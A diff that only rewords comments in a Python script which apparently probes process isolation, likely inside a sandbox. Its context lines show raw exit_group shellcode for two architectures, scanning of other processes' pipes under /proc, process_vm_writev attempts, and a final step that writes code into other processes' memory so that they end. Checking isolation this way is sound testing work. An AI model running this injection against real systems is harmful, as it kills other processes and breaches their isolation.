@@ -6,7 +6,7 @@ import signal
 import stat
 import sys
 
-# exit_group(0), for whoever goes on there.
+# The code of exit_group(0), to write into another process.
 EXITS = {
     'x86_64': bytes.fromhex('31ffb8e70000000f05'),
     'aarch64': bytes.fromhex('e0031faac80b80d2010000d4'),
@@ -62,7 +62,7 @@ def pipes(pid):
         names = os.listdir(f'/proc/{pid}/fd')
     except OSError:
         return
-    # The first three carry what is put out.
+    # The first three are the standard streams.
     for name in sorted(names, key=int)[3:]:
         path = f'/proc/{pid}/fd/{name}'
         try:
@@ -99,14 +99,14 @@ def attack():
         tried += 1
         if libc.syscall(VM_WRITEV, pid, 0, 0, 0, 0, 0) >= 0:
             reached(f'process_vm_writev of {name_of(pid)}')
-    # Last: who is changed by it ends.
+    # This comes last, because a process that it changes ends.
     for pid in others():
         memory(pid)
     memory(os.getpid())
     print(f'TRIED {tried}', flush=True)
 
 
-# Whoever handles one must not take it for an end.
+# A process that handles one of these must not treat it as an end.
 HANDLED = ['HUP', 'INT', 'QUIT', 'USR1', 'USR2', 'ALRM', 'PIPE', 'TERM', 'CHLD', 'CONT', 'WINCH', 'URG']
 
 
